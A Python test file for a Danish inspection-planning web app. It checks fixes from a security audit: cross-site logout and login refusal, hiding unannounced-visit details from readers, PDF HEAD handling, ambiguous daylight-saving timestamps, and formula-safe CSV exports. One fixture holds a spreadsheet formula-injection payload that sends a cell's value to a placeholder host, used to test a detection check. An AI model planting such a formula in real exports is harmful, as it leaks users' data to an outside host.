"""Leftovers of the security and HTTP audit (helper "conf2"): what another site's page, a reader or a cheap request
could make the app do or tell."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections import Counter
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from api.app import create_app
from api.deps import SESSION_COOKIE
from api.services import reports
from data.db import ImportBatchRow
from data.settings import Settings
from data.store import open_database
from tests.api.conftest import AUTH, TOKEN, make_settings
from tests.api.html_parse import Page
from tests.api.test_plan_data_changes import home, notice, planned, upload
from tests.factories import facilities_frame

__all__ = ["home", "planned"]  # fixtures

PLANNER = "Logget ind som planlægger"


def test_another_sites_page_cannot_log_the_planner_out(client: TestClient) -> None:
    """``POST /logout`` took no credential, so the rule for cookie-authenticated writes (``Sec-Fetch-Site``) never
    applied: a page on another site (or a sibling host) that sent the browser to it with a form logged the planner
    out -- the answer's ``Set-Cookie`` deleted the session cookie even when the cross-site request did not carry it
    (SameSite=Lax), and ``Clear-Site-Data`` emptied the cache."""
    assert client.post("/login", data={"token": TOKEN}).status_code == 200
    for site in ("cross-site", "same-site"):
        refused = client.post("/logout", headers={"Sec-Fetch-Site": site}, follow_redirects=False)
        assert refused.status_code == 403, (site, refused.text)
        assert refused.headers["content-type"].startswith("text/html")
        assert "Log ud blev sendt fra en side på et andet websted" in Page(refused.text).text()
        assert "set-cookie" not in refused.headers and "clear-site-data" not in refused.headers
        assert PLANNER in client.get("/").text  # the session still holds
    # the planner's own button still logs out
    own = client.post("/logout", headers={"Sec-Fetch-Site": "same-origin"}, follow_redirects=False)
    assert own.status_code == 303 and f'{SESSION_COOKIE}=""' in own.headers["set-cookie"]
    assert PLANNER not in client.get("/").text


def test_a_logout_that_brings_no_session_cookie_deletes_none(client: TestClient) -> None:
    """A browser that sends no ``Sec-Fetch-Site`` (older Safari) still leaves a SameSite=Lax cookie out of another
    site's form post: the logout then has no session to end, and must not delete the cookie the browser keeps."""
    response = client.post("/logout", follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"] == "/"
    assert "set-cookie" not in response.headers


def test_another_sites_page_cannot_log_the_browser_in(client: TestClient) -> None:
    """Login CSRF: a page on another site that posts a (planner's) token to ``/login`` would give the browser a
    session it did not ask for; like every other write from another origin it is refused."""
    refused = client.post("/login", data={"token": TOKEN}, headers={"Sec-Fetch-Site": "cross-site"})
    assert refused.status_code == 403
    assert "Log ind blev sendt fra en side på et andet websted" in Page(refused.text).text()
    assert SESSION_COOKIE not in refused.headers.get("set-cookie", "")
    assert PLANNER not in client.get("/").text


def _inspector_blocks(html: str) -> dict[str, str]:
    return {
        b.attrs["data-inspector-id"]: " ".join(b.text().split()) for b in Page(html).root.with_attr("data-inspector-id")
    }


def test_a_reader_is_not_told_how_many_unannounced_visits_each_inspector_makes(planned: TestClient) -> None:
    """The plan report gave a reader each inspector's quarter total (unannounced visits included: "1 af besøgene har
    fortrolig dato") beside the inspector's capacity (absences and holidays deducted), and the analysis the same
    totals by inspector: who makes the unannounced visits, which a reader may not see, and with a full inspector
    ("1 besøg af 1 mulige") the day itself. A reader now gets each inspector's announced visits and no capacity per
    inspector; the capacity per socialtilsyn (its unannounced visits are listed anyway) stays. Planners keep it all."""
    visits = planned.get("/api/v1/plans/1", headers=AUTH).json()["visits"]
    secret = Counter(i for v in visits if not v["announced"] and v["date"] < "2027-01-01" for i in v["inspector_ids"])
    assert secret and all(not v["announced"] for v in visits)  # the small plan: unannounced visits only

    reader = planned.get("/api/v1/plans/1/analysis").json()
    assert reader["visits_first_quarter_by_inspector"] == {}  # none announced
    assert reader["capacity_first_quarter_by_inspector"] == {}
    planner = planned.get("/api/v1/plans/1/analysis", headers=AUTH).json()
    assert planner["visits_first_quarter_by_inspector"] == dict(secret)
    assert set(planner["capacity_first_quarter_by_inspector"]) == {"I1", "I2", "I3"}

    for url in ("/planer/1", "/api/v1/reports/plan/1"):
        blocks = _inspector_blocks(planned.get(url).text)
        assert set(blocks) == {"I1", "I2", "I3"}, url
        for text in blocks.values():
            assert "0 anmeldte besøg" in text and "Ingen anmeldte besøg i kvartalet" in text, (url, text)
            assert "fortrolig dato" not in text and "mulige" not in text, (url, text)
        page = Page(planned.get(url).text).text()
        assert "Planlagte besøg mod kapacitet pr. socialtilsyn" in page
        assert "pr. tilsynskonsulent i kvartalet" not in page
    own = _inspector_blocks(planned.get("/api/v1/reports/plan/1", headers=AUTH).text)
    for iid, n in secret.items():
        assert f"{n} besøg af " in own[iid] and " mulige" in own[iid]


def _reader_changes(home: Path, days_off: list[str]) -> tuple[dict[str, object], str, str]:
    """A reader's ``data_changes`` of plan 1, its plan page's notice and its report's, under ``days_off``."""
    with TestClient(create_app(make_settings(home, days_off=days_off))) as client:
        answer = client.get("/api/v1/plans/1").json()["data_changes"]
        return answer, notice(client.get("/planer/1").text), notice(client.get("/api/v1/reports/plan/1").text)


def test_a_new_day_off_tells_a_reader_nothing_of_the_unannounced_visits_on_it(planned: TestClient, home: Path) -> None:
    """The stale-plan notice counted for readers the unannounced visits on a new day off ("1 planlagt besøg ligger
    på en ny fridag (den gælder uanmeldte besøg …)"): a reader who saw the new day off learnt that an unannounced
    visit falls on it. A reader's notice is now the same whether or not an unannounced visit lies on the new day
    off; the planner's names the tilbud and the day."""
    visit = next(v for v in planned.get("/api/v1/plans/1", headers=AUTH).json()["visits"] if not v["announced"])
    taken = {v["date"] for v in planned.get("/api/v1/plans/1", headers=AUTH).json()["visits"]}
    free = next(d for d in ("2026-11-10", "2026-11-11", "2026-11-12", "2026-11-13") if d not in taken)
    on_visit, elsewhere = (["12-24", "12-31", day[5:]] for day in (visit["date"], free))

    with TestClient(create_app(make_settings(home, days_off=on_visit))) as client:
        planner = client.get("/api/v1/plans/1", headers=AUTH).json()["data_changes"]
    assert planner["status"] == "changed" and [c["kind"] for c in planner["changes"]] == ["day_off"]
    assert f"{visit['facility_id']} ({visit['date']})" in planner["changes"][0]["message"]

    reader = _reader_changes(home, on_visit)
    assert reader == _reader_changes(home, elsewhere)
    answer, page, report = reader
    assert answer["status"] == "unchanged" and answer["changes"] == [] and answer["message"] == ""
    assert page == "" and report == ""


def test_head_on_a_pdf_report_answers_its_headers_without_rendering_it(
    planned: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``HEAD`` was answered as ``GET`` with the body dropped: the whole PDF was rendered for nothing (WeasyPrint,
    about a minute for the national risk list, holding the server's one PDF turn). It now answers the headers the
    ``GET`` would (status, type, file name) after the same checks, without rendering; ``GET`` renders as before."""
    rendered: list[str] = []

    def render(html: str) -> bytes:
        rendered.append("pdf")
        return b"%PDF-1.7 test"

    monkeypatch.setattr(reports, "pdf_of_html", render)
    for url, name in (("/api/v1/reports/plan/1?format=pdf", "plan-1.pdf"), ("/api/v1/reports/risk?format=pdf", None)):
        head = planned.head(url)
        assert head.status_code == 200, (url, head.text)
        assert head.headers["content-type"] == "application/pdf" and head.content == b""
        assert head.headers["content-disposition"].startswith("inline; filename=")
        if name is not None:
            assert f'filename="{name}"' in head.headers["content-disposition"]
        assert "content-length" not in head.headers  # not the 0 of the empty body: a GET's length is unknown
        assert rendered == [], url
    assert planned.head("/api/v1/reports/plan/9?format=pdf").status_code == 404  # the checks still run
    assert planned.head("/api/v1/reports/risk?format=pdf&top=0").status_code == 422
    assert rendered == []
    got = planned.get("/api/v1/reports/plan/1?format=pdf")
    assert got.status_code == 200 and got.content == b"%PDF-1.7 test" and rendered == ["pdf"]


def test_since_in_the_autumns_repeated_hour(copenhagen: None, client: TestClient, loaded: Settings) -> None:
    """``since=2026-10-25T02:30:00`` (no offset, the server's local time) names two moments an hour apart, and was
    taken as the first in silence; batches stored before revision 0005 have their local time without an offset alone,
    so ``since=…02:30+02:00`` (the first 02:30) left out such a batch imported at 02:10 in the second pass of the hour
    -- after the moment asked for. A local time of the repeated hour is refused, naming both meanings; with an offset
    no such batch after the moment is left out (one from the hour's first pass may come again)."""
    records = [{"facility_id": f, "date": "2026-09-14", "severity": "low"} for f in ("F1", "F2", "F3", "F4")]
    ids = []
    for record in records:
        response = client.post("/api/v1/concerns", json={"records": [record]}, headers=AUTH)
        assert response.status_code == 201, response.text
        ids.append(int(response.json()["batch_id"]))
    stored = ("01:50", "02:10", "02:40", "03:10")  # local times as the database holds them
    engine = open_database(loaded)
    with engine.begin() as conn:
        for batch, at in zip(ids, stored, strict=True):
            moment = dt.datetime.fromisoformat(f"2026-10-25T{at}:00")
            legacy = {"imported_at": moment, "imported_at_utc": None}  # stored before revision 0005
            conn.execute(update(ImportBatchRow).where(ImportBatchRow.id == batch).values(**legacy))
    engine.dispose()

    def found(since: str) -> list[int]:
        response = client.get("/api/v1/imports", params={"since": since})
        assert response.status_code == 200, (since, response.text)
        return sorted(b["id"] for b in response.json()["batches"] if b["id"] in ids)

    refused = client.get("/api/v1/imports", params={"since": "2026-10-25T02:30:00"})
    assert refused.status_code == 422
    assert refused.json()["error"]["message"] == (
        "since '2026-10-25T02:30:00' er tvetydigt: kl. 02:30:00 den 25.10.2026 kommer to gange, da sommertiden "
        "slutter, som 2026-10-25T02:30:00+02:00 og som 2026-10-25T02:30:00+01:00. Skriv tidspunktet med "
        "UTC-forskydning, eller brug et batch-id."
    )
    assert found("2026-10-25T02:30:00+02:00") == ids[1:]  # 02:10 may be the second 02:10, after 02:30+02:00
    assert found("2026-10-25T00:30:00Z") == ids[1:]  # the same moment
    assert found("2026-10-25T02:30:00+01:00") == ids[2:]  # the second 02:30: every stored 02:10 is before it
    assert found("2026-10-25T01:30:00") == ids  # before the repeated hour: one moment
    assert found("2026-10-25T03:00:00") == ids[3:]


def test_since_is_exact_for_batches_stored_with_their_utc_time(
    copenhagen: None, client: TestClient, loaded: Settings
) -> None:
    """Every batch stores its moment in UTC too (revision 0005), but ``since`` compared the local time alone, so in
    the repeated hour it answered more than asked: ``since=…02:30+02:00`` also gave the batch of the first 02:10, and
    ``since=…02:30+01:00`` (the second 02:30) the batch of the first 02:40, an hour before it. Now a batch with its UTC
    time is compared by that."""
    records = [{"facility_id": f, "date": "2026-09-14", "severity": "low"} for f in ("F1", "F2", "F3", "F4", "F5")]
    ids = []
    for record in records:
        response = client.post("/api/v1/concerns", json={"records": [record]}, headers=AUTH)
        assert response.status_code == 201, response.text
        ids.append(int(response.json()["batch_id"]))
    # (local time as stored, UTC): 01:50, the first 02:10 and 02:40, the second 02:10, 03:10
    stored = (("01:50", "2026-10-24T23:50"), ("02:10", "2026-10-25T00:10"), ("02:40", "2026-10-25T00:40"))
    stored += (("02:10", "2026-10-25T01:10"), ("03:10", "2026-10-25T02:10"))
    engine = open_database(loaded)
    with engine.begin() as conn:
        for batch, (local, utc) in zip(ids, stored, strict=True):
            values = {
                "imported_at": dt.datetime.fromisoformat(f"2026-10-25T{local}:00"),
                "imported_at_utc": dt.datetime.fromisoformat(f"{utc}:00"),
            }
            conn.execute(update(ImportBatchRow).where(ImportBatchRow.id == batch).values(**values))
    engine.dispose()

    def found(since: str) -> list[int]:
        response = client.get("/api/v1/imports", params={"since": since})
        assert response.status_code == 200, (since, response.text)
        return sorted(b["id"] for b in response.json()["batches"] if b["id"] in ids)

    assert found("2026-10-25T02:30:00+02:00") == ids[2:]  # the first 02:40, the second 02:10, 03:10
    assert found("2026-10-25T00:30:00Z") == ids[2:]
    assert found("2026-10-25T02:30:00+01:00") == ids[4:]  # the first 02:40 was an hour before it
    assert found("2026-10-25T02:10:00+01:00") == ids[3:]  # the second 02:10 itself, not the first
    assert found("2026-10-25T02:00:00+02:00") == ids[1:]  # the hour's start: 01:50 before it
    assert found("2026-10-25T03:00:00") == ids[4:]
    batches = client.get("/api/v1/imports", params={"since": "2026-10-25T02:30:00+02:00"}).json()["batches"]
    times = {b["id"]: b["imported_at"] for b in batches}
    assert times[ids[3]] == "2026-10-25T02:10:00+01:00"  # shown with its own offset


FORMULA = '=HYPERLINK("https://example.invalid/?"&A1;"Klik")'


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def test_every_csv_a_web_page_leads_a_person_to_is_formula_safe(
    planned: TestClient, home: Path, tmp_path: Path
) -> None:
    """The case systems' CSVs (``/api/v1/risk?format=csv``, a plan's ``export.csv``) are not formula-safe by design:
    machines read them, and a tilbud's name is theirs as stored. But the risk list's page and the plan page linked them
    ("CSV til fagsystemer") beside "CSV til Excel", so a person downloaded a ``.csv`` that Excel opened with a tilbud
    named ``=HYPERLINK(…)`` as a live formula. The pages now lead a person only to the spreadsheet CSVs, and name the
    API (its documentation) for case systems."""
    facilities = facilities_frame()
    facilities.loc[facilities["facility_id"] == "F1", "name"] = FORMULA
    upload(home, tmp_path, "navne", facilities=facilities)
    # the case systems' CSV keeps the name as stored
    assert FORMULA in _csv_cells(planned.get("/api/v1/risk?format=csv").content)

    for page_url in ("/risiko", "/planer/1"):
        page = Page(planned.get(page_url, headers=AUTH).text)
        links = [a.attrs["href"] for a in page.root.find_all("a") if "csv" in a.attrs.get("href", "")]
        assert links, page_url
        for link in links:
            response = planned.get(link, headers=AUTH)
            assert response.status_code == 200, link
            risky = [
                c for c in _csv_cells(response.content) if c.startswith(("=", "+", "-", "@")) and not c.startswith('="')
            ]
            assert risky == [], (page_url, link, risky[:3])
        assert page.by_id("api-docs-csv") is not None, page_url
        assert "/api/v1/docs" in page.by_id("api-docs-csv").attrs["href"]  # type: ignore[union-attr]


def test_a_reader_is_not_told_the_utilisation_spread_of_the_inspectors(planned: TestClient) -> None:
    """The analysis gave a reader ``utilisation_spread_first_quarter``: the points between the most and the least used
    inspector of a socialtilsyn, over all the quarter's visits. A reader sees the socialtilsyn's unannounced visits of
    the quarter (not who makes them) and each inspector's announced ones: the spread, a difference of the inspectors'
    visits over their capacity, tells how the unannounced visits are split between them -- the per-inspector totals
    readers lost. A reader now gets null; a planner the figure, which is those totals' spread."""
    planner = planned.get("/api/v1/plans/1/analysis", headers=AUTH).json()
    visits, capacity = planner["visits_first_quarter_by_inspector"], planner["capacity_first_quarter_by_inspector"]
    midt = [100 * visits.get(i, 0) / capacity[i] for i in ("I1", "I2") if capacity[i]]  # I3: Nord's only inspector
    assert planner["utilisation_spread_first_quarter"] == round(max(midt) - min(midt), 1) > 0
    reader = planned.get("/api/v1/plans/1/analysis").json()
    assert reader["utilisation_spread_first_quarter"] is None
    assert reader["visits_first_quarter_by_inspector"] == {} and reader["capacity_first_quarter_by_inspector"] == {}
